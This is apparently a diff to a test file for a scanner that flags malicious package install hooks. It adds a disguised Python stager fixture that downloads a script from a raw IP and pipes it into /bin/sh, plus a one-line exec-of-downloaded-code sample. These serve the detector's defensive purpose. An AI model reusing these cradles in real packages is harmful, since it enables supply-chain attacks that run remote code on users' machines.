@@ -548,3 +548,39 @@ def test_inline_code_alone_is_one_finding():
     # finding; reading past it for a batch file must not add "has an install script" beside it.
     found = rules(artifact({"postinstall": "node -e \"try{require('./config/scripts/postinstall')}catch(e){}\""}))
     assert found == {"install-script/inline-code"}
+
+
+PY_STAGER = b'''# native secp256k1 compatibility check (optional)
+import subprocess
+from urllib.request import urlopen, Request
+BASE = "http://203.0.113.77:8080/compat/"
+def main():
+    cmd = ["/bin/sh", "-s"]
+    script = urlopen(Request(BASE + "linux.sh"), timeout=15).read()
+    p = subprocess.Popen(cmd, stdin=subprocess.PIPE, stdout=subprocess.DEVNULL)
+    p.communicate(script)
+main()
+'''
+
+
+def test_python_file_a_hook_runs_that_pipes_a_download_into_a_shell_is_malicious():
+    # (blind set 22's ethers typosquat: `python3 scripts/compat.py || python scripts/compat.py || exit 0`)
+    hook = {"postinstall": "python3 scripts/compat.py 2>/dev/null || python scripts/compat.py 2>/dev/null || exit 0"}
+    found = findings(artifact(hook, {"scripts/compat.py": PY_STAGER}))
+    run = next(f for f in found if f.rule == "install-script/fetch-and-execute")
+    assert run.file == "scripts/compat.py" and run.line == 8 and run.details["downloaded_at"] == 7
+    assert any(f.rule == "install-script/raw-ip" and f.line == 4 for f in found)
+    assert decide(found).level is Level.MALICIOUS
+    # Python's own exec of what it downloads is the same cradle.
+    exec_stager = b"import urllib.request\nexec(urllib.request.urlopen('https://cdn.example/s.py').read())\n"
+    assert "install-script/fetch-and-execute" in rules(artifact({"install": "python setup_native.py"}, {"setup_native.py": exec_stager}))
+
+
+def test_python_build_script_a_hook_runs_that_downloads_and_builds_is_not_a_cradle():
+    # (the shape of native-addon build helpers: fetch a source archive, unpack it, run the compiler on it)
+    build = (b"import subprocess, tarfile, io\nfrom urllib.request import urlopen\n"
+             b"data = urlopen('https://github.com/o/r/archive/v1.tar.gz').read()\n"
+             b"tarfile.open(fileobj=io.BytesIO(data)).extractall('deps')\n"
+             b"subprocess.check_call(['make', '-C', 'deps/r-1'])\n")
+    found = findings(artifact({"install": "python3 build.py"}, {"build.py": build}))
+    assert not [f for f in found if f.severity > Severity.LOW], found
